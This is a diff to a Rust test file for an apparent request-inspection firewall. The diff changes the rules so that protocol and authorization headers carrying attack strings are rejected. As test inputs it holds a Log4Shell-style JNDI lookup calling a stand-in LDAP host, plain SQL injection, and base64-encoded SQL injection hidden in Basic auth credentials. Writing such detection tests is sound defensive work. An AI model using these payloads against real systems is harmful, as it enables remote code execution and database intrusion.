@@ -135,14 +135,26 @@ fn every_place_is_inspected_unless_it_is_switched_off() {
 }
 
 #[test]
-fn protocol_headers_and_secrets_are_not_inspected() {
-    for name in ["accept", "sec-ch-ua", "if-none-match", "authorization", "range", "x-request-id"] {
-        assert_eq!(
-            status(&play(&policy(json!({})), &[(name.as_bytes(), BAD.as_bytes())], &[])),
-            200,
-            "{name}"
-        );
+fn protocol_headers_are_inspected_where_they_hold_what_no_protocol_has() {
+    let judge = |name: &str, value: &str| {
+        status(&play(&policy(json!({})), &[(name.as_bytes(), value.as_bytes())], &[]))
+    };
+    for name in ["accept", "accept-language", "if-none-match", "authorization", "te", "x-request-id"] {
+        assert_eq!(judge(name, BAD), 403, "{name}");
+        assert_eq!(judge(name, "${jndi:ldap://x.test/a}"), 403, "{name}");
+        // Words alone are what protocols are made of.
+        assert_eq!(judge(name, "1 or 1=1; q=0.9, a/b"), 200, "{name}");
     }
+    for fine in ["Bearer it's.a.token", "Digest username=\"O'Brien\", realm=\"x\"", "Basic YW5uOm8nYnJpZW4="]
+    {
+        assert_eq!(judge("authorization", fine), 200, "{fine}");
+    }
+    for bad in
+        ["Bearer ${jndi:ldap://x.test/a}", "basic eCcgb3IgMT0xIC0tIDp5", "Basic YW5uOngnIG9yIDE9MSAtLSA="]
+    {
+        assert_eq!(judge("authorization", bad), 403, "{bad}");
+    }
+    assert_eq!(judge(":authority", "it's"), 200);
     for name in ["user-agent", "referer", "x-forwarded-for", "x-anything"] {
         assert_eq!(
             status(&play(&policy(json!({})), &[(name.as_bytes(), BAD.as_bytes())], &[])),
